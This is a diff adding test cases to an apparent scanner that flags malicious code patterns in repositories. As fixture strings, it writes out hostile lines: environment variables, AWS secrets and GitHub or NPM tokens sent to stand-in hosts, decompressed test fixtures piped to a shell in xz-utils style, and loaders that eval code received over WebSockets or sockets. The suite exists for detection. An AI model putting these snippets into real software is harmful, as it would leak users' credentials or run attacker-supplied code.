@@ -534,6 +534,18 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/client.py', ["requests.get('https://api.45-139-104-115.plesk.page/v1')"])).toEqual([['medium', 'Network call to a raw IP address', 11]]);
   });
 
+  it('reads C#\'s GetEnvironmentVariables(), a GET whose URL carries the environment, and Rust\'s ureq::post', () => {
+    const whole = ['high', 'The whole environment is sent over the network'];
+    expect(sent('src/Diag.cs', ['var env = System.Environment.GetEnvironmentVariables();', 'await new HttpClient().PostAsync("https://diag.example-metrics.dev/d", new StringContent(JsonSerializer.Serialize(env)));'])).toEqual([[...whole, 11]]);
+    expect(sent('src/Ping.php', ["    @file_get_contents('https://php-stats.example-metrics.dev/p?d=' . base64_encode(json_encode(getenv())));"])).toEqual([[...whole, 11]]);
+    expect(sent('src/telemetry.rs', ['    let all: Vec<(String, String)> = std::env::vars().collect();', '    let _ = ureq::post("https://crash.example-metrics.dev/r").send_json(serde_json::json!({ "env": all }));'])).toEqual([[...whole, 11]]);
+  });
+  it('is quiet on C# reading one variable, a GET that carries one setting, and ureq posting data of its own', () => {
+    expect(sent('src/Config.cs', ['var port = Environment.GetEnvironmentVariable("PORT");', 'await client.PostAsync(url, new StringContent(body));'])).toEqual([]);
+    expect(sent('src/Ping.php', ["    $r = file_get_contents('https://api.example.org/v1/status?region=' . getenv('REGION'));"])).toEqual([]);
+    expect(sent('src/report.rs', ['    let _ = ureq::post("https://ci.example.org/r").send_json(serde_json::json!({ "ok": true }));'])).toEqual([]);
+  });
+
   it('is quiet on the environment handed to a child process, one variable sent, or a send far from the environment', () => {
     expect(sent('src/runner.py', ['proc = subprocess.run(cmd, env={**os.environ, "CI": "1"}, check=True)', "requests.post(RESULTS_URL, json={'code': proc.returncode})"])).toEqual([]);
     expect(sent('src/spawn.ts', ['const child = spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: "1" } });', "await fetch(url, { method: 'POST', body: JSON.stringify({ ok: true }) });"])).toEqual([]);
@@ -1069,6 +1081,17 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('tests/run.sh', ['cat tests/files/good-large.lzma | tr "\\5-\\51\\204-\\377" "\\0-\\377" | xz -F raw --lzma1 -dc | /bin/sh'])).toEqual(['high:11']);
     expect(ids('tests/run.sh', ['eval "$(gzip -dc tests/data/fixture.gz)"'])).toEqual(['high:11']);
     expect(ids('scripts/setup.sh', ['zstd -dc stage.zst | bash -s -- --quiet'])).toEqual(['high:11']);
+  });
+  it('reads program and test code too: a decompressed fixture fed to a shell with no script, or exec of what lzma or gzip unpacks (the xz-utils stage in a Go TestMain or a conftest.py)', () => {
+    expect(ids('decoder_main_test.go', ['\tf, _ := os.Open("testdata/corrupt-header.gz")', '\tr, _ := gzip.NewReader(f)', '\tcmd := exec.Command("sh")', '\tcmd.Stdin = r', '\t_ = cmd.Run()'])).toEqual(['high:13']);
+    expect(ids('tests/helpers.py', ['data = lzma.decompress(open("tests/files/bad-3.lzma", "rb").read()[1024:])', 'subprocess.run(["sh"], input=data, check=False)'])).toEqual(['high:12']);
+    expect(ids('tests/conftest.py', ['exec(lzma.decompress(FIXTURE.read_bytes()[1024:]))'])).toEqual(['high:11']);
+    expect(ids('test/setup.js', ["const code = zlib.gunzipSync(fs.readFileSync('test/fixtures/blob.gz'));", "spawnSync('bash', [], { input: code });"])).toEqual(['high:12']);
+  });
+  it('is quiet on program code that unpacks data and runs a shell with a script of its own, or a shell fed a plain file', () => {
+    expect(ids('internal/fixtures/load_test.go', ['\tr, _ := gzip.NewReader(f)', '\tdata, _ := io.ReadAll(r)', '\tout, _ := exec.Command("sh", "-c", "git rev-parse HEAD").Output()'])).toEqual([]);
+    expect(ids('tests/helpers.py', ['rows = gzip.decompress(blob).decode().splitlines()', 'subprocess.run(["sh", "scripts/seed.sh"], check=True)'])).toEqual([]);
+    expect(ids('internal/run/run.go', ['\tf, _ := os.Open("scripts/setup.sh")', '\tcmd := exec.Command("sh")', '\tcmd.Stdin = f'])).toEqual([]);
   });
   it('is quiet on data unpacked into a file, a database or an archive tool, and on an interpreter fed a plain file', () => {
     expect(ids('scripts/restore.sh', ['gunzip -c dump.sql.gz | psql "$DATABASE_URL"', 'xz -dc rootfs.img.xz | dd of=disk.img bs=4M', 'zcat data.csv.gz > data.csv'])).toEqual([]);
@@ -3335,6 +3358,18 @@ describe('dynamic-code-execution of downloaded code', () => {
     expect(sink('.vscode/.cache/preload.js', ["require('https').get('https://vscode-ext-cdn.com/p.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });"])?.severity).toBe('high');
     expect(sink('lib/boot.js', ['require("node:http").request({ host: "10.0.0.5", path: "/p.js" }, (r) => r.on("data", (c) => eval(String(c)))).end();'])?.severity).toBe('high');
   });
+  it('what a WebSocket or a socket to a literal remote host receives, run in the hunk, is high (the loader of the compromised is package, July 2025)', () => {
+    expect(sink('lib/live.js', ["const ws = new WebSocket('wss://cfg.example-cdn.dev/live');", "ws.on('message', (m) => { try { new Function('require', m.toString())(require); } catch {} });"])?.severity).toBe('high');
+    expect(sink('src/sync.js', ["const socket = io('https://sync.example-cdn.dev');", "socket.on('run', (code) => eval(code));"])?.severity).toBe('high');
+    expect(sink('pkg/live.py', ['s = socket.socket()', 's.connect(("cfg.example-cdn.dev", 443))', 'exec(s.recv(65536).decode())'])?.severity).toBe('high');
+    expect(sink('pkg/live.py', ['ws = websocket.create_connection("wss://cfg.example-cdn.dev/live")', 'exec(ws.recv())'])?.severity).toBe('high');
+  });
+  it('a WebSocket whose messages are parsed as data, or a socket to a host held in a variable, keeps eval at its ordinary severity or reports nothing', () => {
+    expect(sink('src/live.js', ["const ws = new WebSocket('wss://updates.acme.example/feed');", 'ws.onmessage = (e) => render(JSON.parse(e.data));'])).toBeUndefined();
+    expect(sink('pkg/client.py', ['s = socket.socket()', 's.connect((host, port))', 'result = eval(expression, {"__builtins__": {}})'])?.severity).toBe('medium');
+    // A dev server's hot reload on the machine itself.
+    expect(sink('client/hmr.js', ["const socket = new WebSocket('ws://localhost:8080/hmr');", 'socket.onmessage = (e) => eval(e.data);'])?.severity).toBe('medium');
+  });
   it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
     expect(sink('lib/helper.js', ["const total = eval(expression);", "const mod = require('https-proxy-agent').get;"])?.severity).toBe('medium');
     expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
@@ -4047,6 +4082,12 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     // A GET carries what its URL does: the secret in a query string.
     expect(sent('src/Boot.php', ['    @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'])?.severity).toBe('high');
     expect(sent('pkg/ping.py', ['requests.get(f"https://collect.telemetry-hub.dev/p?t={os.environ[\'PYPI_API_TOKEN\']}", timeout=2)'])?.severity).toBe('high');
+  });
+  it('does not take a service\'s word in a subdomain anyone can pick for that service\'s host (a GitHub token to github-metrics.pages.dev), and keeps a Cloudflare token to workers.dev quiet', () => {
+    expect(sent('src/stats.ts', ["await fetch('https://github-metrics.pages.dev/c', { method: 'POST', body: JSON.stringify({ t: process.env.GITHUB_TOKEN }) });"])?.severity).toBe('high');
+    expect(sent('scripts/sync.py', ['requests.post("https://npm-cache.onrender.com/s", data={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('src/purge.ts', ["await fetch('https://purge.acme.workers.dev/run', { method: 'POST', body: JSON.stringify({ token: process.env.CLOUDFLARE_API_TOKEN }) });"])).toBeUndefined();
+    expect(sent('src/release.ts', ["await fetch('https://uploads.github.com/repos/acme/tint/releases/1/assets', { method: 'POST', body: JSON.stringify({ t: process.env.GITHUB_TOKEN }) });"])).toBeUndefined();
   });
   it('reads a shell script too: a registry or product token on a curl or wget line, as data or in the URL, to another host', () => {
     expect(sent('scripts/notify.sh', ['curl -s -X POST https://stats.pkg-insights.dev/publish -d "{\\"k\\":\\"$NODE_AUTH_TOKEN\\"}"'])?.severity).toBe('high');
